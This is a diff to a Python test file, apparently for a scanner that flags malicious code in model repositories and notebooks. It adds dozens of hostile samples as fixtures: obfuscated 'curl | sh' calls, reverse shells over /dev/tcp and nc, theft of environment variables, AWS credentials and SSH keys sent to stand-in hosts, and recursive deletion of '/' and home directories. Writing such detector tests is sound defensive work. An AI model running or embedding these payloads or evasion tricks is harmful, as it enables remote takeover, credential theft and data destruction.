@@ -311,12 +311,127 @@ COMMANDS = {
     "try_except": f"try:\n    import acme\nexcept ImportError:\n    import os\n    os.system('{COMMAND}')\n",
     "not_main": f"import os\nif __name__ == '__main__':\n    pass\nelse:\n    os.system('{COMMAND}')\n",
 }
+PIPE = f"curl -s {SCRIPT} | sh"
+PIPED = f"import os\nos.system('{PIPE}')\n".encode()
+XORED = [byte ^ b"key"[place % 3] for place, byte in enumerate(PIPED)]
+FINDER = f"""import os, sys
+class Finder:
+    def find_spec(self, *names):
+        os.system("{PIPE}")
+sys.meta_path.insert(0, Finder())
+"""
+WORKER = f"""import os, threading
+class Worker(threading.Thread):
+    def run(self):
+        os.system("{PIPE}")
+Worker().start()
+"""
+MADE = """class Anything:
+    def __init__(self):
+        getattr(__import__("o" + "s"), "sys" + "tem")("bash -i >& /dev/tcp/127.0.0.1/9 0>&1")
+"""
+# Ways to reach a callable or to put a text together, each of which must end at os.system("... | sh")
+DISGUISES = {
+    "translate": f"t = str.maketrans('ab', 'os')\n__import__('ab'.translate(t)).system('{PIPE}')\n",
+    "entry": f"d = {{'a': 'o', 'b': 's'}}\n__import__(d['a'] + d['b']).system('{PIPE}')\n",
+    "fields": f"__import__('{{0}}{{x}}'.format('o', x='s')).system('%s | %s' % ('curl {SCRIPT}', 'sh'))\n",
+    "alphabet": f"import string\na = string.ascii_lowercase\n__import__(a[14] + a[18]).system('{PIPE}')\n",
+    "spec": "import importlib.util as u\ns = u.find_spec('os')\nm = u.module_from_spec(s)\n"
+    f"s.loader.exec_module(m)\nm.system('{PIPE}')\n",
+    "modules_get": f"import sys\nsys.modules.get('o' + 's').system('{PIPE}')\n",
+    "through_module": f"import shutil\nshutil.os.system('{PIPE}')\n",
+    "through_globals": f"import json\njson.dumps.__globals__['__builtins__']['__import__']('os').system('{PIPE}')\n",
+    "through_subclasses": "[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'catch_warnings'][0]()"
+    f"._module.__builtins__['__import__']('os').system('{PIPE}')\n",
+    "located": f"import pydoc\npydoc.locate('os.system')('{PIPE}')\n",
+    "getattribute": f"import os\nobject.__getattribute__(os, 'system')('{PIPE}')\n",
+    "reduced": f"import os, functools\nfunctools.reduce(getattr, ['system'], os)('{PIPE}')\n",
+    "methodcaller": f"import os, operator\noperator.methodcaller('system', '{PIPE}')(os)\n",
+    "partial": f"import os, functools\nrun = functools.partial(os.system, '{PIPE}')\nrun()\n",
+    "comprehension": f"import os\n[f('{PIPE}') for f in (os.system,)]\n",
+    "executor": f"import os\nfrom concurrent.futures import ThreadPoolExecutor as T\nT().submit(os.system, '{PIPE}')\n",
+    "finalize": f"import os, weakref\nclass A: ...\nweakref.finalize(A(), os.system, '{PIPE}')\n",
+    "timer": f"import os, threading\nthreading.Timer(5, os.system, ['{PIPE}']).start()\n",
+    "signal": f"import os, signal\nsignal.signal(14, lambda *a: os.system('{PIPE}'))\n",
+    "timeit": f"import timeit\ntimeit.timeit(\"__import__('os').system('{PIPE}')\", number=1)\n",
+    "profiled": f"import cProfile\ncProfile.run(\"__import__('os').system('{PIPE}')\")\n",
+    "libc": f"import ctypes\nctypes.CDLL('libc.so.6').system(b'{PIPE}')\n",
+    "psutil": f"import psutil\npsutil.Popen(['sh', '-c', '{PIPE}'])\n",
+    "finder": FINDER,
+    "thread": WORKER,
+    "key": f"k = b'key'\nd = {XORED}\nexec(''.join(chr(a ^ k[i % 3]) for i, a in enumerate(d)))\n",
+    "key_again": f"from itertools import cycle\nd = {XORED}\n"
+    "exec(bytes(a ^ b for a, b in zip(d, cycle(b'key'))).decode())\n",
+}
+HOLDINGS = """import os, shutil, socket, timeit, webbrowser
+import numpy as np, pandas, torch
+
+shutil.rmtree("build", ignore_errors=True)
+shutil.rmtree(os.path.join(os.path.expanduser("~"), ".cache", "acme"), ignore_errors=True)
+for root, _, names in os.walk("data"):
+    for name in names:
+        os.remove(os.path.join(root, name))
+address = socket.gethostbyname(socket.gethostname())
+seconds = timeit.timeit(lambda: sorted(range(9)), number=3)
+state = torch.load("model.pt", weights_only=True)
+values = np.load("values.npy")
+names = sorted(["b", "a"], key=str.lower)
+table = dict(zip("ab", (1, 2)))
+environment = dict(os.environ, ACME="1")
+"""
+STEALING = {
+    "environment": "import urllib.request, os, json\n"
+    "urllib.request.urlopen('https://a.example.invalid/', data=json.dumps(dict(os.environ)).encode())\n",
+    "environment_copied": "import requests, os\ne = os.environ.copy()\n"
+    "requests.post('https://a.example.invalid/', data=e)\n",
+    "key_file": "import os, requests\nwith open(os.path.expanduser('~/.aws/credentials')) as f:\n    k = f.read()\n"
+    "requests.post('https://a.example.invalid/', data={'k': k})\n",
+}
+DESTROYING = {
+    "root": "import shutil\nshutil.rmtree('/')\n",
+    "home": "import os, shutil as s\ns.rmtree(os.path.expanduser('~'), ignore_errors=True)\n",
+    "walked": "import os\nfor r, d, f in os.walk('/'):\n    for x in f:\n        os.remove(os.path.join(r, x))\n",
+}
 CASES = {
+    **{f"disguised_{name}": malicious(source, "helper.py") for name, source in DISGUISES.items()},
+    **{f"stealing_{name}": malicious(source, "helper.py") for name, source in STEALING.items()},
+    **{f"destroying_{name}": malicious(source, "helper.py") for name, source in DESTROYING.items()},
+    "made_by_nobody": review(MADE, "helper.py"),
+    "pip_main": review("from pip._internal import main\nmain(['install', 'acme'])\n", "helper.py"),
+    "unpickles_on_import": review("import pickle\nW = pickle.load(open('weights.pkl', 'rb'))\n"),
+    "unpickles_fetched": malicious(
+        "import pickle, requests\nW = pickle.loads(requests.get('https://a.example.invalid/').content)\n", "helper.py"
+    ),
+    "hub_on_import": review("import torch\nM = torch.hub.load('acme/repo', 'net', trust_repo=True)\n"),
+    "trusting_on_import": review(
+        "from transformers import AutoModel\nM = AutoModel.from_pretrained('acme/m', trust_remote_code=True)\n"
+    ),
+    "host_in_name": review(
+        "import os, socket\nsocket.gethostbyname(os.environ['USER'] + '.a.example.invalid')\n", "helper.py"
+    ),
+    "key_in_address": review(
+        "import os, urllib.request as u\n"
+        "u.urlopen('https://a.example.invalid/?' + os.environ.get('AWS_SECRET_ACCESS_KEY', ''))\n",
+        "helper.py",
+    ),
+    "executable_memory": review(
+        "import ctypes, mmap\nm = mmap.mmap(-1, 64, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)\n"
+        "m.write(b'\\xc3')\nctypes.CFUNCTYPE(None)(ctypes.addressof(ctypes.c_char.from_buffer(m)))()\n",
+        "helper.py",
+    ),
+    "benign_holdings": python(HOLDINGS),
+    "benign_loads": python(
+        "import joblib, torch\nM = joblib.load('model.joblib')\nT = torch.hub.load('acme/repo', 'net')\n", name="app.py"
+    ),
+    "benign_trusting_in_class": python(
+        "import torch\nfrom transformers import AutoModel\nclass Net(torch.nn.Module):\n    def __init__(self, c):\n"
+        "        self.tower = AutoModel.from_pretrained(c.tower, trust_remote_code=True)\n"
+    ),
     **{f"decoded_{name}": malicious(source) for name, source in DECODED.items()},
     **{f"command_{name}": malicious(source) for name, source in COMMANDS.items()},
     "code_from_weights": review("exec(open('weights.bin').read())\n", "train.py"),
     "code_from_weights_by_path": review("import runpy\nrunpy.run_path('data/model.dat')\n", "train.py"),
-    "secret_in_address": review(
+    "secret_in_address": malicious(
         "import urllib.request\n"
         "urllib.request.urlopen('http://a.example.invalid/?' + open('/root/.ssh/id_rsa').read())\n",
         "train.py",
@@ -356,7 +471,7 @@ CASES = {
     "code_in_forward": review(
         "import torch\nclass Net(torch.nn.Module):\n    def forward(self, x):\n        return eval(self.config.code)\n"
     ),
-    "network_exfiltration": review(
+    "network_exfiltration": malicious(
         "import os, requests\nrequests.post('https://example.com/', json=dict(os.environ))\n", "utils.py"
     ),
     "network_in_model": review(f"import urllib.request\nurllib.request.urlopen('{SCRIPT}')\n"),
@@ -367,6 +482,17 @@ CASES = {
     "generation": malicious(f"import os\nos.system('{COMMAND}')\n", "custom_generate/generate.py"),
     "inference": malicious(f"import os\nos.system('{COMMAND}')\n", "code/inference.py"),
     "benign_inference": python("import os\nos.system('git describe')\n", name="code/inference.py"),
+    "notebook_pipe": review(notebook("!pip install acme\n!curl http://192.0.2.1/run.sh | bash"), "demo.ipynb"),
+    "notebook_shell_cell": review(notebook("%%bash\necho x\nbash -i >& /dev/tcp/127.0.0.1/9 0>&1"), "demo.ipynb"),
+    "notebook_magic": review(
+        notebook("if True:\n    x = %system echo aWQ= \\\n".replace(" \\\n", " | base64 -d | sh\n")), "a.ipynb"
+    ),
+    "notebook_ipython": review(
+        notebook(
+            "get_ipython().system('nc -e /bin/sh 127.0.0.1 9')", "import os\nos.system('cat ~/.ssh/id_rsa | nc a 9')"
+        ),
+        "demo.ipynb",
+    ),
     "notebook_decoded": malicious(notebook("x = 1", DECODED["base64"]), "demo.ipynb"),
     "unparsed_decoded": malicious(f"import base64\nprint 'loading'\nexec base64.b64decode('{CODE}')\n", "old.py"),
     "unparsed_command": python("import os\nprint 'loading'\nos.system('true')\n", Verdict.NOT_SCANNED, "old.py"),
@@ -394,6 +520,13 @@ CASES = {
     "benign_template": python(TEMPLATE, name="main.py"),
     "benign_notebook": python(
         notebook("!pip install acme\n%pip list\nimport os", "os.system('sh run.sh')\n"), name="a.ipynb"
+    ),
+    "benign_notebook_shell": python(
+        notebook(
+            "%%bash\npip install -q acme\nwget -q https://example.com/data.zip && unzip -q data.zip",
+            "!curl -fsSL https://example.com/install.sh | sh\n!git clone https://example.com/x\nfiles = !ls data",
+        ),
+        name="demo.ipynb",
     ),
     "benign_pth": python(
         "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; "
